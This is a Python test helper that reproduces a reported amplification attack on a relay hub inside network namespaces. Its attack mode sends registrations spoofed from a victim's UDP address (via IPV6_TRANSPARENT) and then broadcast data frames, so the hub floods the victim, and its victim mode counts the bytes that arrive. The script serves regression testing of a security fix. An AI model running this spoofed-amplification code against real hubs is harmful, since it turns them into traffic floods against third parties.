#!/usr/bin/env python3
"""The relay hub amplification attack of issue 15, for tests/netns/hub_amplify.sh.

  victim   ADDR PORT SECONDS       count the UDP bytes that reach ADDR:PORT until
                                    SECONDS pass without any; print one JSON line
  attack   HUB VICTIM VPORT N K    join locator e from our own address (answering a
                                    cookie challenge if the hub sends one), send N
                                    signed registrations with fresh keys spoofed
                                    from VICTIM:VPORT (IPV6_TRANSPARENT), then K data
                                    frames of 1,449 bytes; print the bytes sent

Speaks proto/README.md section 12 directly; stdlib only (attacker.py's Ed25519).
"""
import json
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from attacker import ALL_NODES, Identity, header  # noqa: E402

CONTEXT = b"ilnp-overlay hub registration v1"
LOCATOR = 0xE
IPV6_TRANSPARENT = 75
SO_RCVBUFFORCE = 33


def registration(me, timestamp, cookie=None):
    flags = 0x02 | (0x04 if cookie else 0)
    body = struct.pack(">BBQQQ", 2, flags, LOCATOR, me.nid, timestamp) + (cookie or b"") + me.public
    return body + me.sign(CONTEXT + body)


def cmd_victim(addr, port, seconds):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 64 << 20)
    s.bind((addr, int(port)))
    s.settimeout(float(seconds))
    got = {"datagrams": 0, "bytes": 0, "by_type": {}}
    print("ready", file=sys.stderr, flush=True)
    while True:
        try:
            data = s.recv(70000)
        except socket.timeout:
            if got["datagrams"]:
                break
            continue
        got["datagrams"] += 1
        got["bytes"] += len(data)
        kind = str(data[0]) if data else "empty"
        got["by_type"][kind] = got["by_type"].get(kind, 0) + 1
    print(json.dumps(got), flush=True)


def cmd_attack(hub, victim, vport, count, frames):
    hub_address = (hub, 10010)
    me = Identity(os.urandom(32))
    own = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    own.settimeout(1.0)
    sent = {"own_bytes": 0, "spoofed_bytes": 0, "data_bytes": 0}
    cookie, joined = None, False
    for _ in range(10):  # our own membership, the honest way
        frame = registration(me, time.time_ns() // 1000, cookie)
        own.sendto(frame, hub_address)
        sent["own_bytes"] += len(frame)
        try:
            reply = own.recv(2048)
        except socket.timeout:
            continue
        if reply[0] == 5 and len(reply) == 25:  # cookie challenge: prove our address
            cookie = reply[9:25]
        elif reply[0] == 3 and reply[1] == 0:
            joined = True
            break
    if not joined:
        sys.exit("attack: the hub did not accept our own registration")

    spoof = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    spoof.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
    spoof.bind((victim, int(vport)))
    now = time.time_ns() // 1000
    for i in range(int(count)):
        frame = registration(Identity(os.urandom(32)), now + i)
        spoof.sendto(frame, hub_address)
        sent["spoofed_bytes"] += len(frame)
    time.sleep(0.5)
    payload = b"x" * (1440 - 40)
    data = b"\x01" + LOCATOR.to_bytes(8, "big") + header(42, payload, LOCATOR, me.nid, ALL_NODES, 0)
    for _ in range(int(frames)):
        own.sendto(data, hub_address)
        sent["data_bytes"] += len(data)
        time.sleep(0.05)
    sent["data_frame_size"] = len(data)
    print(json.dumps(sent), flush=True)


if __name__ == "__main__":
    {"victim": cmd_victim, "attack": cmd_attack}[sys.argv[1]](*sys.argv[2:])
